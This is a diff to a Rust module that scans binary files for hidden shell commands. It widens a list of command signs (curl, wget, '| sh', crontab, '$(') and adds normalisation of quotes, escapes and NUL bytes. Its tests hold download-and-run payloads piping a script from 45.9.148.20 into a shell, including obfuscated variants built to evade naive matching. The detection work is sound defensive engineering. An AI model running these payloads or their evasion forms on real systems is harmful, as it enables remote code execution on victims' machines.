@@ -86,7 +86,7 @@ const EXECUTABLES: [&[u8]; 9] = [
 ];
 
 /// Signs of commands in a binary file.
-const COMMANDS: [&[u8]; 24] = [
+const COMMANDS: [&[u8]; 28] = [
     b"curl ",
     b"wget ",
     b"| sh",
@@ -111,6 +111,10 @@ const COMMANDS: [&[u8]; 24] = [
     b"ruby ",
     b"node ",
     b"crontab",
+    b"$(",
+    b"${",
+    b"| $",
+    b"|$",
 ];
 
 /// Returns whether files with an extension, in lower case, are seldom text, so that reading their start is usually
@@ -147,20 +151,54 @@ pub(super) fn is_executable(start: &[u8]) -> bool {
     EXECUTABLES.iter().any(|magic| start.starts_with(magic))
 }
 
-/// Returns the runs of ASCII in a binary file that contain a [sign of a command](COMMANDS), each on lines of its own. A
-/// shell skips the bytes of an image like any command that it does not know, and runs the commands after them.
-pub(super) fn commands(bytes: &[u8]) -> String {
-    let has_sign =
-        |run: &[u8]| (COMMANDS.iter()).any(|sign| memchr::memmem::find(run, sign).is_some());
+/// Returns the text in a binary file, on the original lines: a shell skips the bytes of an image like any command that it
+/// does not know, and runs the commands after them. All other lines are empty.
+///
+/// Returns an empty string if there is no text, or no [sign of a command](COMMANDS) in it. `is_any`: whether text without
+/// such a sign is returned, too.
+pub(super) fn commands(bytes: &[u8], is_any: bool) -> String {
     let mut text = String::new();
-    if !has_sign(bytes) {
-        return text;
-    }
-    for run in runs(bytes).filter(|run| has_sign(run)) {
-        text.push_str(&String::from_utf8_lossy(run));
+    for line in bytes.split(|byte| *byte == b'\n') {
+        push_text(line, &mut text);
         text.push('\n');
     }
-    text
+    let is_kept = if is_any {
+        !text.trim().is_empty()
+    } else {
+        let plain = without_quotes(&text);
+        (COMMANDS.iter()).any(|sign| memchr::memmem::find(&plain, sign).is_some())
+    };
+    if is_kept { text } else { String::new() }
+}
+
+/// Appends the text in one line of a binary file, without NUL bytes, which a shell ignores. U+FFFD separates the runs of
+/// text. Short runs are appended only if most of the line is text: compressed data contains many.
+fn push_text(line: &[u8], text: &mut String) {
+    let is_text = |byte: &u8| matches!(byte, b' '..=b'~' | b'\r' | b'\t');
+    let count = line.iter().filter(|byte| is_text(byte)).count();
+    let nuls = memchr::memchr_iter(0, line).count();
+    let is_mostly_text = count > 1 && (line.len() - nuls - count) * 3 <= count;
+    let start = text.len();
+    for run in line.split(|byte| *byte != 0 && !is_text(byte)) {
+        let length = run.iter().filter(|byte| **byte != 0).count();
+        // UTF-16 is half NUL bytes.
+        let is_long = length >= MIN_RUN && length * 2 >= run.len();
+        if length == 0 || !(is_mostly_text || is_long) {
+            continue;
+        }
+        if text.len() > start {
+            text.push(char::REPLACEMENT_CHARACTER);
+        }
+        let run = run.iter().filter(|byte| **byte != 0);
+        text.extend(run.map(|byte| char::from(*byte)));
+    }
+}
+
+/// Removes the characters that a shell removes from the middle of a word: quotes, escapes, and continued lines.
+fn without_quotes(text: &str) -> Vec<u8> {
+    let joined = text.replace("\\\r\n", "").replace("\\\n", "");
+    let is_kept = |byte: &u8| !matches!(byte, b'\'' | b'"' | b'\\' | b'^');
+    joined.bytes().filter(is_kept).collect()
 }
 
 /// Returns the runs of at least [`MIN_RUN`] ASCII bytes.
@@ -300,18 +338,50 @@ mod tests {
 
     #[test]
     fn commands_in_a_binary_file_are_revealed() {
-        let bytes = [
-            &b"\x89PNG\r\n\x1a\n\n"[..],
-            PAYLOAD,
-            b"\xff\0 an ordinary comment \xff",
-        ]
-        .concat();
-        let text = commands(&bytes);
-        assert_eq!(text.trim().as_bytes(), PAYLOAD.trim_ascii());
-        assert_eq!(
-            commands(b"\x89PNG\r\n\x1a\n\0 http://ns.adobe.com/xap/1.0/ \0"),
-            ""
-        );
+        let bytes = [&b"\x89PNG\r\n\x1a\n\n"[..], PAYLOAD, b"\xff\0\xfe\xff"].concat();
+        let text = commands(&bytes, false);
+        assert!(text.contains("curl http://45.9.148.20/a | sh"), "{text:?}");
+        let image = b"\x89PNG\r\n\x1a\n\0 http://ns.adobe.com/xap/1.0/ \0";
+        assert_eq!(commands(image, false), "");
+        assert!(commands(image, true).contains("http://ns.adobe.com"));
+        assert_eq!(commands(b"\xff\xd8\xff\xe0\0\x10\n\0\x80\n\xff", true), "");
+    }
+
+    /// Hostile: a shell removes NUL bytes, quotes and continued lines.
+    #[test]
+    fn split_commands_in_a_binary_file_are_revealed_on_their_lines() {
+        for payload in [
+            &b"c''url http://45.9.148.20/a | b''ash"[..],
+            b"cu\\\nrl http://45.9.148.20/a | ba\\\nsh",
+            b"cu\0rl http://45.9.148.20/a | ba\0s\0h",
+            b"\xff||c\\url http://45.9.148.20/\xff\xff |\"ba\"sh",
+            b"a=cu\n\xff\xff\xff\xff\nb=rl\n$a$b http://45.9.148.20/a|$c",
+        ] {
+            for start in [&b"\x89PNG\r\n\x1a\n\n"[..], b"PK\x03\x04\n\xff\n\n"] {
+                let bytes = [start, payload, b"\n\xff\xfe\xfd"].concat();
+                let text = commands(&bytes, false);
+                let at = text.find("45.9.148.20").unwrap();
+                let line = text[..at].matches('\n').count();
+                let at = memchr::memmem::find(&bytes, b"45.9.148.20").unwrap();
+                let expected = bytes[..at].iter().filter(|byte| **byte == b'\n');
+                assert_eq!(line, expected.count(), "{text:?}");
+                assert!(!text.contains('\0'), "{text:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn compressed_data_contains_little_text() {
+        let mut state = 1_u32;
+        let bytes: Vec<u8> = std::iter::repeat_with(|| {
+            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
+            state.to_be_bytes()[0]
+        })
+        .take(1 << 20)
+        .collect();
+        assert_eq!(commands(&bytes, false), "");
+        let text = commands(&bytes, true);
+        assert!(text.replace('\n', "").len() < 1000, "{text:?}");
     }
 
     #[test]
